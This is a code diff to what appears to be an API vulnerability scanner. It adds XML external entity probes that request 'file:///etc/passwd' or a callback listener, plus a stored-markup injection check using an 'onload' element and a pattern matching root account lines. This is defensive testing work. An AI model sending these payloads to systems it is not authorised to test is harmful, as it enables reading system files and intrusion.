@@ -11,17 +11,18 @@ import re
 import secrets
 import threading
 import time
-from collections.abc import Iterable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field, replace
 from typing import ClassVar
 from urllib.parse import urlsplit
 
-from harness.probes.api_inputs import MARK
-from harness.probes.api_request import Hole, RawXml
+from harness.probes.api_inputs import JSON, MARK, objects, plain_name
+from harness.probes.api_request import Hole, Place, RawXml, RequestDraft, json_of, succeeded
 from harness.probes.api_sites import TextPlace
-from harness.probes.api_world import World
+from harness.probes.api_world import Described, World
 from harness.probes.exchange import Exchange
+from harness.probes.openapi_operation import names_in_path
 
 _ACCOUNTS_FILE = re.compile(r"root:[^:\n]{0,200}:0:0:")
 _WAYS_UP = (
@@ -107,24 +108,37 @@ def files_read(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
 
 def _entities(world: World) -> Iterator[Hole]:
     """XML whose document type declares an entity that is a file."""
-    for described in world.operations:
-        body = described.inputs.body
-        if body is None or not body.media_type.endswith("xml") or described.operation.method == "GET":
-            continue
-        draft = world.draft(described, world.asker)
-        if draft is None:
-            continue
-        plain = draft.arguments()["content"].decode()
-        name = str(body.schema.get("xml", {}).get("name", "root"))
-        inner = re.sub(r"^<root>|</root>$", "", plain)
-        inner = re.sub(r">[^<]+<", ">&hx;<", inner)
-        text = (
-            f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY hx SYSTEM "file:///etc/passwd">]><{name}>{inner}</{name}>'
-        )
-        seen = world.client.tried(world.asker, replace(draft, body=RawXml(text)))
+    for described, send in _documents(world):
+        seen = send("file:///etc/passwd")
         if seen is not None and (found := _ACCOUNTS_FILE.search(seen.text)):
             says = f"reads the file that an entity of the XML names: it gives {found[0]!r}"
             yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))
+
+
+def _documents(world: World) -> Iterator[tuple[Described, Callable[[str], Exchange | None]]]:
+    """Operations that take XML, described or not, and what sends them a document with an entity from an address."""
+    for described in world.operations:
+        body = described.inputs.body
+        if body is None or described.operation.method == "GET" or described.is_disruptive:
+            continue
+        draft = world.draft(described, world.asker)
+        is_described = body.media_type.endswith("xml")
+        if draft is None or not (is_described or body.media_type == JSON):
+            continue
+        xml = replace(draft, media_type=body.media_type if is_described else "application/xml")
+        if not is_described:
+            plain = world.client.tried(world.asker, xml)
+            if plain is None or not succeeded(plain):
+                continue
+        name = str(body.schema.get("xml", {}).get("name", "root"))
+        inner = re.sub(r"^<root>|</root>$", "", xml.arguments()["content"].decode())
+        with_entity = re.sub(r">[^<]+<", ">&hx;<", inner) if "<" in inner else "&hx;"
+
+        def send(address: str, xml: RequestDraft = xml, name: str = name, inner: str = with_entity) -> Exchange | None:
+            text = f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY hx SYSTEM "{address}">]><{name}>{inner}</{name}>'
+            return world.client.tried(world.asker, replace(xml, body=RawXml(text)))
+
+        yield described, send
 
 
 def requests_elsewhere(world: World, places: Iterable[TextPlace], listener: Listener) -> Iterator[Hole]:
@@ -142,12 +156,26 @@ def requests_elsewhere(world: World, places: Iterable[TextPlace], listener: List
                 break
     if sent:
         listener.waits_for(f"{MARK}nobody", min(_LATE_S, 0.5))
+    yield from _by_entities(world, listener)
     for word, site, seen in sent:
         key = (site.operation.name, str(site.place))
         if key not in found and listener.waits_for(word, 0.0):
             found.add(key)
             says = f"asks the address that {site.place} names: a listener of ours on {listener.url} was asked"
             yield site.hole(says, *([seen] if seen is not None else []))
+
+
+def _by_entities(world: World, listener: Listener) -> Iterator[Hole]:
+    """Entities of XML that are addresses; where they are files too, that is the finding."""
+    for described, send in _documents(world):
+        address, word = listener.address()
+        seen = send(address)
+        if seen is None or not listener.waits_for(word, 0.3):
+            continue
+        file = send("file:///etc/passwd")
+        if file is None or not _ACCOUNTS_FILE.search(file.text):
+            says = "asks the address that an entity of the XML names: a listener of ours was asked"
+            yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))
 
 
 def open_redirects(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
@@ -196,7 +224,7 @@ def header_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hol
 
 
 def markup_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
-    """Places whose text becomes a part of a page, markup and all."""
+    """Places whose text becomes a part of a page, markup and all: of the answer, or of a page that shows it later."""
     for site in places:
         if not isinstance(site.value, str):
             continue
@@ -206,6 +234,28 @@ def markup_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hol
         if seen is not None and f"<i{word} onload=" in seen.text and _is_html(seen):
             says = f"puts {site.place} into a page as markup: {text!r} comes back as an element"
             yield site.hole(says, seen)
+        elif seen is not None and succeeded(seen) and site.operation.method != "GET":
+            shown = next(_pages_of(world, site, seen, f"<i{word} onload="), None)
+            if shown is not None:
+                says = f"keeps {site.place} as markup: {text!r} is an element of {shown.path}"
+                yield site.hole(says, seen, shown)
+
+
+def _pages_of(world: World, site: TextPlace, made: Exchange, element: str) -> Iterator[Exchange]:
+    """Pages about the thing that a write made or changed, which hold an element."""
+    told = {plain_name(key): value for each in objects(json_of(made)) for key, value in each.items()}
+    key = next((told[name] for name in ("id", "uuid", "slug", "key") if isinstance(told.get(name), str | int)), None)
+    for described in world.reads():
+        before = described.operation.path.partition("{")[0]
+        names = list(names_in_path(described.operation.path))
+        draft = world.draft(described, site.account) if site.operation.path.startswith(before.rstrip("/")) else None
+        if draft is None or len(names) > 1 or (names and key is None):
+            continue
+        changed = site.operation.path.count("{") == 1
+        value = next(iter(site.draft.path.values())) if changed and site.draft.path else key
+        seen = world.client.tried(site.account, draft.put(Place("path", (names[0],)), value) if names else draft)
+        if seen is not None and element in seen.text and _is_html(seen):
+            yield seen
 
 
 def _is_html(answer: Exchange) -> bool:
